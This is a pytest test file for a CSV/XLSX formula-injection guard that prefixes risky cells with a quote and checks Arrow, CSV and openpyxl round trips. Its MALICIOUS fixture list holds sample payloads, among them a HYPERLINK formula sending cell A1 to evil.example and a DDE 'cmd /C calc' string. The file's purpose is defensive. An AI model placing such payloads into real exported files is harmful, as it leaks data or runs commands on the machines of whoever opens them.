"""Formula neutralisation: one rule for CSV text, Arrow batches and XLSX cells."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from shuzhi.security import cells

MALICIOUS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点此查看")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "\u3000=1",
    "＝1+1",
    "＋1",
    "－2+3",
    "＠SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
)
HARMLESS = ("abc", "张三", "a=b", "1-2", "", "'x", "2024-03-01", "x@example.org", "\nabc")
# Text that is entirely a plain number: what a numeric column of the (all-text) lake holds.
PLAIN_NUMBERS = ("-5", "+3.25", "-1.5e3", "-.5", "+8613800138000", "-0")
NOT_PLAIN_NUMBERS = ("-5 ", " -5", "－5", "-5%", "-1,000", "-2+3", "-inf", "+1e", "-٣")

# Text made of the characters that matter here, plus ordinary ones.
risky_text = st.text(
    alphabet=st.sampled_from(
        list(cells.TRIGGERS + cells.LEADING_CONTROLS + cells.GUARD + " \u3000\n\xa0.e")
        + list("ab15中")
    ),
    max_size=8,
)
any_text = st.one_of(risky_text, st.text(max_size=30))


@pytest.mark.parametrize("value", MALICIOUS)
def test_malicious_values_are_guarded_and_kept(value: str) -> None:
    assert cells.needs_guard(value)
    assert cells.guard(value) == "'" + value
    assert cells.unguard(cells.guard(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_values_are_unchanged(value: str) -> None:
    assert cells.guard(value) == value
    assert cells.unguard(value) == value


@pytest.mark.parametrize("value", PLAIN_NUMBERS)
def test_text_that_is_a_plain_number_is_left_as_a_number(value: str) -> None:
    assert not cells.needs_guard(value)
    assert cells.guard(value) == value
    assert cells.guard_array(pa.array([value])).to_pylist() == [value]


@pytest.mark.parametrize("value", NOT_PLAIN_NUMBERS)
def test_anything_more_than_a_plain_number_is_guarded(value: str) -> None:
    assert cells.guard(value) == "'" + value
    assert cells.guard_array(pa.array([value])).to_pylist() == ["'" + value]


@settings(max_examples=500, deadline=None)
@given(any_text)
def test_guard_round_trips_and_leaves_nothing_risky(value: str) -> None:
    out = cells.guard(value)
    assert not cells.needs_guard(out)
    assert out == value or out == "'" + value
    assert cells.unguard(out) == value


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), any_text), max_size=30))
def test_arrow_guard_agrees_with_the_python_rule(values: list[str | None]) -> None:
    expected = [None if v is None else cells.guard(v) for v in values]
    half = len(values) // 2
    for kind in (pa.string(), pa.large_string(), pa.string_view()):
        array = pa.array(values, kind)
        assert cells.guard_array(array).to_pylist() == expected
        # Slices and chunks start their values inside a shared buffer.
        assert cells.guard_array(array.slice(half)).to_pylist() == expected[half:]
        chunked = pa.chunked_array([array.slice(0, half), array.slice(half)], kind)
        assert cells.guard_array(chunked).to_pylist() == expected


def test_arrow_guard_touches_text_columns_and_names_only() -> None:
    batch = pa.RecordBatch.from_pydict(
        {
            "=名称": ["=1+1", "城南", None],
            "数量": pa.array([-5, 3, None], pa.int64()),
            "比例": pa.array([-0.5, 1.5, None], pa.float64()),
            "日期": pa.array([date(2024, 1, 1)] * 3),
            "类型": pa.array(["@x", "a", "a"]).dictionary_encode(),
        }
    )
    out = cells.guard_batch(batch)
    assert out.schema.names == ["'=名称", "数量", "比例", "日期", "类型"]
    assert out.column(0).to_pylist() == ["'=1+1", "城南", None]
    assert out.column(1).to_pylist() == [-5, 3, None]
    assert out.column(2).to_pylist() == [-0.5, 1.5, None]
    assert out.column(4).to_pylist() == ["'@x", "a", "a"]
    plain = pa.RecordBatch.from_pydict({"a": ["x"], "n": [-1]})
    assert cells.guard_batch(plain) is plain


def test_csv_writer_guards_text_and_keeps_numbers() -> None:
    out = io.StringIO()
    writer = cells.csv_writer(out)
    writer.writerow(["name", "n"])
    writer.writerows([[v, -5] for v in MALICIOUS])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "n"]
    for row, value in zip(rows[1:], MALICIOUS, strict=True):
        assert row == ["'" + value, "-5"]


def _xml(value: str) -> str:
    """What the saved workbook gives back: openpyxl's lxml writer keeps a carriage return as
    a character reference; its standard-library writer leaves it raw, and the XML reader then
    normalises line ends to LF."""
    if openpyxl.LXML:
        return value
    return value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_cells_are_text_and_numbers_numbers(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    texts = [*MALICIOUS, *HARMLESS, "#N/A", "'=1"]
    rows: list[list[object]] = [[v, -5, 2.5, date(2024, 1, 2)] for v in texts]
    for row in rows:  # write-only sheets take guarded cells, others are sealed at the end
        sheet.append(cells.xlsx_row(sheet, row) if write_only else row)
    raw = io.BytesIO()
    if not write_only:
        cells.seal_workbook(book)
    book.save(raw)
    read = load_workbook(io.BytesIO(raw.getvalue())).worksheets[0]
    for value, cell_row in zip(texts, read.iter_rows(), strict=True):
        text, number, ratio, day = cell_row
        assert text.data_type == "s" or (value == "" and text.value is None), value
        assert cells.unguard(text.value or "") == _xml(value)
        assert text.quotePrefix == cells.needs_guard(text.value or "")
        assert (number.value, number.data_type) == (-5, "n")
        assert (ratio.value, ratio.data_type) == (2.5, "n")
        assert day.is_date
    assert read["A1"].value == MALICIOUS[0]  # stored as it is; the flag does the guarding


def test_sealing_turns_formulas_back_into_text() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["=1+1", "+1+1", -5, "#DIV/0!", "-5"])
    assert sheet["A1"].data_type == "f"
    cells.seal_workbook(book)
    raw = io.BytesIO()
    book.save(raw)
    read = load_workbook(io.BytesIO(raw.getvalue())).active
    assert [(c.value, c.data_type, c.quotePrefix) for c in read[1]] == [
        ("=1+1", "s", True),
        ("+1+1", "s", True),
        (-5, "n", False),
        ("#DIV/0!", "s", False),
        ("-5", "s", False),  # text that is a plain number: text, as the column says
    ]


@settings(max_examples=100, deadline=None)
@given(st.lists(any_text, min_size=1, max_size=10))
def test_xlsx_values_read_back_exactly_after_unguard(values: list[str]) -> None:
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    # XML turns CR into LF whatever is written; illegal characters are dropped on writing.
    clean = [_xml(ILLEGAL_CHARACTERS_RE.sub("", v)) for v in values]
    for v in clean:
        sheet.append(cells.xlsx_row(sheet, [v]))
    raw = io.BytesIO()
    book.save(raw)
    read = load_workbook(io.BytesIO(raw.getvalue()), read_only=True).worksheets[0]
    got = [cells.unguard(r[0] or "") for r in read.iter_rows(values_only=True)]
    assert got == clean
